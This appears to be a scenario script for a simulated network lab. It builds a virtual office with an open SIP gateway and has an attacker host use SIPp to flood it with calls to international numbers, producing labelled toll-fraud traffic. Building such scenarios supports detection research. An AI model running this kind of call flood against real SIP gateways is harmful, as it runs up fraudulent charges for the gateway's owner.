# A gateway of the place (SIPp) takes calls of whomever, by mistake: a stranger calls expensive numbers through it, without a password; all are answered.
draw_place
open_office
add_handsets 7 2
add_host gateway "$NET.$(drawn gateway 200 240)"
ip -n "$PREFIX-gateway" route add default via "$NET.254"
start gateway gateway env TERM=dumb sipp -sf "$parts/sipp/answers.xml" -nostdin -i "${address_of[gateway]}" -mi "${address_of[gateway]}" -p 5060
ip -n "$PREFIX-router" neigh replace "${address_of[gateway]}" lladdr "$(mac "${address_of[gateway]}")" dev eth0 nud permanent
dialler=$(stranger dialler)
add_attacker dialler "$dialler"
for n in $(seq "$(drawn calls 8 14)"); do echo "00$(one_of "country$n" 88216 96077 23277 25261 37288)0$(drawn "number$n" 100000 999999);$(one_of "user$n" 100 1000 asterisk);"; done |
    write_list "$scratch/numbers.csv"
sipp_list spit "$scratch/numbers.csv" "$dialler" 5060 "$(drawn rate 24 40)" -key agent "$(product dialler)" -d "$(drawn talk 5 12)000"
begin
ordinary_day 42
at "$(drawn start 8 12)" attack A1 toll_fraud dialler 5060 "Without a password a stranger calls numbers abroad through a gateway that takes every call; all answer." \
    "$(version_of sipp)" "${list_command[@]}" "${address_of[gateway]}:5060"
finish 'A1?'
